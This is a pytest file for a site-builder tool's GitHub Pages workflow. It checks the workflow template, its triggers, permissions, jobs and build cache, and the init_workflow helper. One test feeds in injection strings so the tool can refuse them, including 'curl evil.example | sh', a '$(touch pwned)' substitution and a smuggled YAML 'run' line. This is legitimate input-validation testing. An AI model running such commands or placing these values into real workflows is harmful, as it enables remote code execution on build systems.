"""Tests for the GitHub Pages workflow: the repository's copy and init_workflow."""

from __future__ import annotations

from pathlib import Path

import json
import shlex
from types import SimpleNamespace

import pytest
import yaml

from site_builder import __version__, workflow as workflow_module
from site_builder.workflow import WorkflowError, init_workflow, workflow_yaml

# This repository's site is built by site-builder itself, so its workflow installs ".".
WORKFLOW_YAML = workflow_yaml(".")
PINNED = f"site-builder=={__version__}"

REPO_WORKFLOW = Path(__file__).resolve().parent.parent / ".github" / "workflows" / "pages.yml"


@pytest.fixture(scope="module")
def workflow() -> dict:
    return yaml.safe_load(REPO_WORKFLOW.read_text(encoding="utf-8"))


def step_uses(job: dict) -> list[str]:
    return [step["uses"].split("@")[0] for step in job["steps"] if "uses" in step]


def test_repository_workflow_is_the_packaged_template():
    assert REPO_WORKFLOW.read_text(encoding="utf-8") == WORKFLOW_YAML


def test_runs_on_push_to_main_and_by_hand(workflow):
    # YAML 1.1 (PyYAML) reads the bare key `on` as the boolean True.
    triggers = workflow.get("on", workflow.get(True))
    assert triggers["push"]["branches"] == ["main"]
    assert "workflow_dispatch" in triggers


def test_permissions_and_concurrency(workflow):
    assert workflow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    assert workflow["concurrency"] == {"group": "pages", "cancel-in-progress": False}


def test_build_job_builds_with_the_pages_base_url(workflow):
    build = workflow["jobs"]["build"]
    assert step_uses(build) == [
        "actions/checkout",
        "actions/setup-python",
        "actions/cache",
        "actions/configure-pages",
        "actions/upload-pages-artifact",
    ]
    steps = {step.get("id") or step["name"]: step for step in build["steps"]}
    assert steps["pages"]["uses"] == "actions/configure-pages@v5"
    assert steps["Set up Python"]["with"]["python-version"] == "3.11"
    runs = " ".join(step.get("run", "") for step in build["steps"])
    assert "pip install ." in runs
    assert 'site-builder build --base-url "${{ steps.pages.outputs.base_url }}/"' in runs
    upload = next(s for s in build["steps"] if "upload-pages-artifact" in s.get("uses", ""))
    assert upload["uses"] == "actions/upload-pages-artifact@v3"
    assert upload["with"]["path"] == "_site"


def test_deploy_job_publishes_to_the_pages_environment(workflow):
    deploy = workflow["jobs"]["deploy"]
    assert deploy["needs"] == "build"
    assert deploy["environment"]["name"] == "github-pages"
    assert deploy["environment"]["url"] == "${{ steps.deployment.outputs.page_url }}"
    (step,) = deploy["steps"]
    assert step["uses"] == "actions/deploy-pages@v4"
    assert step["id"] == "deployment"


def test_init_workflow_writes_the_template(tmp_path):
    path = init_workflow(tmp_path, install=PINNED)
    assert path == tmp_path / ".github" / "workflows" / "pages.yml"
    assert path.read_text(encoding="utf-8") == workflow_yaml(PINNED)
    assert init_workflow(tmp_path, install=PINNED) == path  # an identical file is fine


def test_init_workflow_keeps_a_different_file_unless_forced(tmp_path):
    path = tmp_path / ".github" / "workflows" / "pages.yml"
    path.parent.mkdir(parents=True)
    path.write_text("name: my own workflow\n")

    with pytest.raises(FileExistsError, match="force"):
        init_workflow(tmp_path, install=PINNED)
    assert path.read_text() == "name: my own workflow\n"

    assert init_workflow(tmp_path, force=True, install=PINNED) == path
    assert path.read_text(encoding="utf-8") == workflow_yaml(PINNED)


def install_command(text: str) -> list[str]:
    build = yaml.safe_load(text)["jobs"]["build"]
    (step,) = [step for step in build["steps"] if step.get("name") == "Install site-builder"]
    return shlex.split(step["run"])


@pytest.mark.parametrize("spec", [
    PINNED,
    "site-builder @ git+https://github.com/wikipathways/site_builder@v0.1.0",
    "git+https://github.com/wikipathways/site_builder@0123456789abcdef0123456789abcdef01234567",
    "site-builder[test]>=0.1,<0.2",
])
def test_a_sites_workflow_installs_site_builder_as_a_package_not_the_site_itself(tmp_path, spec):
    text = init_workflow(tmp_path, install=spec).read_text(encoding="utf-8")
    assert install_command(text) == ["python", "-m", "pip", "install", spec]
    assert "pip install .\n" not in text


@pytest.mark.parametrize("spec", [
    "site-builder; curl evil.example | sh",
    "site-builder==1 $(touch pwned)",
    "site-builder\n        run: echo injected",
    "'site-builder'",
    "site-builder==1 # comment",
    "",
])
def test_an_install_requirement_that_could_inject_shell_or_yaml_is_refused(tmp_path, spec):
    with pytest.raises(WorkflowError, match="pip requirement"):
        init_workflow(tmp_path, install=spec)
    assert not (tmp_path / ".github").exists()


def fake_distribution(direct_url: dict | None):
    return SimpleNamespace(read_text=lambda name: json.dumps(direct_url) if direct_url and name == "direct_url.json" else None)


def test_the_default_install_is_the_installed_git_commit_or_the_pinned_version(monkeypatch):
    commit = "0123456789abcdef0123456789abcdef01234567"
    from_git = {"url": "https://github.com/wikipathways/site_builder.git", "vcs_info": {"vcs": "git", "commit_id": commit}}
    monkeypatch.setattr(workflow_module.metadata, "distribution", lambda name: fake_distribution(from_git))
    assert workflow_module.default_install() == (f"site-builder @ git+https://github.com/wikipathways/site_builder.git@{commit}", None)

    monkeypatch.setattr(workflow_module.metadata, "distribution", lambda name: fake_distribution(None))  # from PyPI
    assert workflow_module.default_install() == (PINNED, None)

    local = {"url": "file:///home/me/site_builder", "dir_info": {"editable": True}}
    monkeypatch.setattr(workflow_module.metadata, "distribution", lambda name: fake_distribution(local))
    spec, note = workflow_module.default_install()
    assert spec == PINNED and "file:///home/me/site_builder" in note and "--install" in note


def test_the_build_cache_is_kept_between_runs_and_keyed_by_the_site_builder_version(workflow):
    steps = workflow["jobs"]["build"]["steps"]
    names = [step.get("name") for step in steps]
    cache = next(step for step in steps if step.get("uses", "").startswith("actions/cache@"))
    version = next(step for step in steps if step.get("id") == "site-builder")
    # the version is read after site-builder is installed, the cache restored before the build
    assert names.index("Install site-builder") < steps.index(version) < steps.index(cache) < names.index("Build the site")
    assert "site_builder.__version__" in version["run"] and "$GITHUB_OUTPUT" in version["run"]
    assert cache["with"]["path"] == ".site-cache"
    key, restore = cache["with"]["key"], cache["with"]["restore-keys"].strip()
    assert "${{ steps.site-builder.outputs.version }}" in restore
    assert key.startswith(restore) and key.endswith("${{ github.sha }}")  # every run saves; the newest is restored
